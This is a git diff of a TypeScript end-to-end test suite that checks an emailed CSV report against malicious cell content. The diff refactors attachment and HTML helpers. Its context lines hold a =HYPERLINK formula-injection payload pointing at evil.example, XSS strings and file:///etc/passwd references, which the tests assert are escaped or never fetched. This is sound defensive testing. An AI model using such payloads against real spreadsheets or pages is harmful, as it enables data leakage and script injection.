@@ -3,6 +3,7 @@ import { parse } from 'csv-parse/sync';
 import { stringify } from 'csv-stringify/sync';
 import { after, before, describe, test } from 'node:test';
 import type { ReportRecord } from '../../../src/reports/record.js';
+import { attachedFiles, htmlWithoutChart } from '../../helpers/email-parts.js';
 import { startTestSmtpServer, type ReceivedMessage, type TestSmtpServer } from '../../helpers/smtp.js';
 import { rawRequest, startHarness, startTrap, type Harness, type Trap } from './harness.js';
 
@@ -35,8 +36,9 @@ async function deliver(csv: string): Promise<{ record: ReportRecord; message: Re
 }
 
 function attachmentRows(message: ReceivedMessage): string[][] {
-  assert.equal(message.parsed.attachments.length, 1, 'exactly one attachment: the CSV');
-  const attachment = message.parsed.attachments.find((attachment) => attachment.contentType !== 'image/png')!;
+  const files = attachedFiles(message.parsed);
+  assert.equal(files.length, 1, 'exactly one attached file: the CSV');
+  const attachment = files[0]!;
   assert.equal(attachment.contentType, 'text/csv');
   return parse(attachment.content, { relax_column_count: true, columns: false });
 }
@@ -139,7 +141,7 @@ describe('malicious CSV content, end to end', () => {
     );
     assert.ok(attached.flat().some((cell) => cell === '-12.5') && attached.flat().some((cell) => cell === '+3'), 'plain numbers stay numbers');
 
-    const html = String(message.parsed.html);
+    const html = htmlWithoutChart(message.parsed);
     assertOnlyTemplateMarkup(html);
     assert.ok(html.includes('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;Click me&quot;)'), 'the formula is shown as escaped text');
     assert.equal(/evil\.example[^<]*<\/a>/u.test(html), false);
@@ -165,7 +167,7 @@ describe('malicious CSV content, end to end', () => {
     assert.equal(message.parsed.headers.has('bcc'), false);
     assert.equal(/[\r\n]/u.test(message.parsed.subject ?? ''), false);
 
-    const html = String(message.parsed.html);
+    const html = htmlWithoutChart(message.parsed);
     assertOnlyTemplateMarkup(html);
     assert.equal(/<script|<img|<h1|<a\s/iu.test(html), false, 'no markup from the data');
     for (const escaped of ['&lt;script&gt;alert(1)&lt;/script&gt;', '&lt;img src=x onerror=alert(1)&gt;', '&lt;/td&gt;&lt;/tr&gt;&lt;/table&gt;&lt;h1&gt;']) {
@@ -184,15 +186,15 @@ describe('malicious CSV content, end to end', () => {
     ];
     const { record, message } = await deliver(stringify(rows));
     const attached = attachmentRows(message);
-    assert.equal(message.parsed.attachments.find((attachment) => attachment.contentType !== 'image/png')!.filename, `losant-usage-${record.id}.csv`);
+    assert.equal(attachedFiles(message.parsed)[0]!.filename, `losant-usage-${record.id}.csv`);
     assert.deepEqual(attached[1]!.slice(2, 5), ['file:///etc/passwd', '/etc/passwd', target], 'the cells are data in the CSV');
     const raw = message.raw.toString('utf8');
     assert.equal(/^root:/mu.test(raw), false, 'no line of /etc/passwd in the message');
     assert.equal(
-      message.parsed.attachments.some((attachment) => attachment.contentType !== 'text/csv'),
+      attachedFiles(message.parsed).some((attachment) => attachment.contentType !== 'text/csv'),
       false,
     );
-    assertOnlyTemplateMarkup(String(message.parsed.html));
+    assertOnlyTemplateMarkup(htmlWithoutChart(message.parsed));
     assert.equal(trap.connections, 0, 'no URL was fetched');
   });
 });
